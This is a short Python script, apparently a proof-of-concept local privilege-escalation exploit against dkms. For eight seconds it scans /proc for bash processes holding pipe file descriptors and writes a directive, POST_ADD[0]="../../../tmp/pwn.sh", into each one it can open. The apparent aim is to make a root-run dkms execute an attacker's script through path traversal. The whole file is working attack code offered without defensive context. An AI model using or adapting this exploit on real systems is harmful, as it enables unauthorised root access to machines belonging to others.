"""As an unrelated process: finds shells below dkms, and writes a directive into each of their pipes that can be opened."""
import os
import time

LINE = b'POST_ADD[0]="../../../tmp/pwn.sh"\n'
end = time.time() + 8
while time.time() < end:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for number in ("1", "2", "10", "63"):
            try:
                if "bash" not in open(f"/proc/{pid}/comm").read() or "pipe:" not in os.readlink(f"/proc/{pid}/fd/{number}"):
                    continue
                fd = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(fd, LINE)
                os.close(fd)
            except OSError:
                pass
